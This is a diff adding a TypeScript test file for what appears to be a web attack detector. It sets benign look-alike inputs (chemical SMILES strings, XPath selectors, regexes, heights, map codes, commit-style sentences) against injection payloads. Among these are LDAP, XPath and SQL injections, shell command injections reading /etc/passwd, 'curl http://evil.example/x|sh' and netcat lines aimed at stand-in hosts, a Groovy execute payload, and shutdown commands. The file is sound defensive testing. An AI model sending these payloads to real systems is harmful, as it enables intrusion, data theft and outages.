@@ -1,0 +1,138 @@
+import { asked, filled, type HonestKinds, sent, testKinds } from './honest-kinds.ts'
+
+/** Notations of other trades that hold the signs of an attack, and what stays an attack beside them. */
+const KINDS: HonestKinds = {
+  'structures of molecules, whose brackets each close their own': {
+    honest: [
+      asked('/compound', { smiles: 'CC(=CCCC(C)(C=C)O)C' }),
+      asked('/compound', { q: 'CC(C)(C=O)C' }),
+      asked('/rest/smiles/CC(C)(C=C)O/property', {}),
+      sent({ structure: 'CC12CCC(=O)C=C1CCC1C2CCC2(C)C(O)(C#C)CCC12' }),
+      filled({ structure: 'C(C(=O)O)(C(=O)O)=C' }),
+      sent({ rows: ['CC(C)(C=O)C', 'CC(C)(C=C)(C=O)C'] }),
+    ],
+    attacks: [
+      asked('/s', { user: 'x)(cn=*' }),
+      asked('/s', { user: 'CC(C)(C=O)C)(uid=*' }),
+      asked('/s', { user: '(x))(uid=*' }),
+      asked('/s', { user: 'admin)(&)' }),
+      asked('/s', { user: '*)(uid=*))(|(uid=*' }),
+      filled({ user: `${'(a)(c=b)'.repeat(40)})(uid=*` }),
+      filled({ user: "O'Neil)(cn=*" }),
+      sent({ user: '*)(objectClass=*' }),
+    ],
+  },
+  'a selector with the predicates that it opened itself': {
+    honest: [
+      sent({ selector: '//div[@class="a"]/text()' }),
+      filled({ selector: "//h1[@id='title']/text()" }),
+      sent({ path: '//a[@id] | //b[@id]' }),
+    ],
+    attacks: [
+      asked('/s', { name: "x']/text()" }),
+      asked('/s', { name: '1] | //user[1' }),
+      asked('/s', { name: "x[']/text()" }),
+      asked('/s', { name: "'] | //user/*[contains(*,'" }),
+    ],
+  },
+  'the words among which an expression chooses': {
+    honest: [
+      asked('/search', { pattern: '(png|jpg|gif|zip|tar|gz)$' }),
+      sent({ pattern: '\\.(css|js|env|sh)$' }),
+      filled({ pattern: '^/(?:docs|man|cat)/.*' }),
+      sent({ only: 'feature/(id|ls|pwd)-.*' }),
+    ],
+    attacks: [
+      asked('/s', { v: 'x$(a|sh)' }),
+      asked('/s', { v: 'x;(a|sh)' }),
+      asked('/s', { v: 'x|id' }),
+      asked('/s', { v: 'a(b|cat /etc/passwd)' }),
+      asked('/s', { v: '(curl http://evil.example/x|sh)' }),
+      asked('/s', { v: 'x`(a|sh)`' }),
+    ],
+  },
+  'heights, in feet and inches': {
+    honest: [
+      asked('/search', { q: `5' 11" or 6' 2"` }),
+      sent({ note: `5'11" or 6'2", please` }),
+      filled({ note: `a 2' 6" or 3' 4" board` }),
+    ],
+    attacks: [
+      asked('/s', { v: `5" or 6=6 --` }),
+      asked('/s', { v: `1' or 6'2'='6'2` }),
+      asked('/s', { v: `5" or "6"="6` }),
+      asked('/s', { v: `5' 11" or 1=1 #` }),
+    ],
+  },
+  'places on a map': {
+    honest: [
+      asked('/places/4G3Q33C9+QX/photos', {}),
+      asked('/maps', { code: '849VCWC8+QX' }),
+      asked('/maps', { path: 'mfp_I__vpAYBO@K@[@YEe@CsAEc@Cs`w|w`A' }),
+      asked('/maps', { path: 'enc:_p~iF~ps|U_ulLnnqC_mqNvxq`@|w`@' }),
+      sent({ points: 'yzoc`w|FzynhVq}@n}@o}@nzD' }),
+    ],
+    attacks: [
+      asked('/s', { v: '; w' }),
+      asked('/s', { v: 'qx/id/' }),
+      asked('/s', { v: 'x = qx{id}' }),
+      asked('/s', { v: 'a`id`' }),
+    ],
+  },
+  'what Firefox and mail services send': {
+    honest: [
+      {
+        ...asked('/', {}),
+        headers: ['accept-language', 'de-DE,de;q=0.7,chrome://global/locale/intl.properties;q=0.3'],
+      },
+      filled({
+        mandrill_events: JSON.stringify([
+          {
+            msg: {
+              raw_msg: 'From: a@b.example\nSubject: x\nContent-Type: multipart/mixed; boundary="b"\n\n--b',
+            },
+          },
+        ]),
+      }),
+      sent({ code: 'x = chr(13) + chr(10)' }),
+      sent({ readme: "It says printf '\\x1b[31mred' or echo -e '\\xe2\\x9c\\x93 done'" }),
+    ],
+    attacks: [
+      { ...asked('/', {}), headers: ['accept-language', 'de,/etc/passwd'] },
+      { ...asked('/', {}), headers: ['accept-language', 'chrome://global/locale/intl.properties/../x'] },
+      filled({ subject: 'x\nContent-Type: multipart/mixed; boundary="b"' }),
+      sent({ spider: ';`id`' }),
+      sent({ name: '|`whoami`' }),
+      sent({ script: "def c='id';def res=c.execute().text;res" }),
+      asked('/q', { key: ';system "touch /tmp/x" "' }),
+      filled({ cmd: 'bg_system echo -en \\x7f\\x45\\x4c\\x46\\x01>>/tmp/dUqTz' }),
+      asked('/s', { uid: ',chr(97)) or 1: print chr(121)+chr(101)' }),
+    ],
+  },
+  'a sentence that goes on with the name of a program': {
+    honest: [
+      sent({ text: 'fixed; curl now follows redirects' }),
+      sent({ message: 'Done; ssh is still open to the office, grep works again.' }),
+      filled({ comment: 'Sorry; tar is not what we use' }),
+      asked('/search', { q: 'C++; bash was here' }),
+      sent({ text: "Updated; nmap doesn't see it any more - good" }),
+      sent({ text: 'required; grep simply needs to request the module during configuration.' }),
+      sent({ text: 'behoben; curl is für alle da' }),
+    ],
+    attacks: [
+      sent({ host: '127.0.0.1; curl http://evil.example' }),
+      asked('/s', { v: 'x; curl is evil.example' }),
+      asked('/s', { v: 'x; curl the http://evil.example/' }),
+      asked('/s', { v: 'x; wget is -O /tmp/x' }),
+      asked('/s', { v: 'x; bash is; cat /etc/passwd' }),
+      asked('/s', { v: 'x; curl is now $HOME' }),
+      asked('/s', { v: 'x; nc is 198.51.100.7 4444' }),
+      asked('/s', { v: 'x; shutdown now' }),
+      asked('/s', { v: 'x; reboot and more' }),
+      asked('/s', { v: `x; curl is ${'so '.repeat(200)} http://evil.example/` }),
+      asked('/s', { v: `x; curl is ${'so '.repeat(20)} http://evil.example/` }),
+    ],
+  },
+}
+
+testKinds(KINDS)
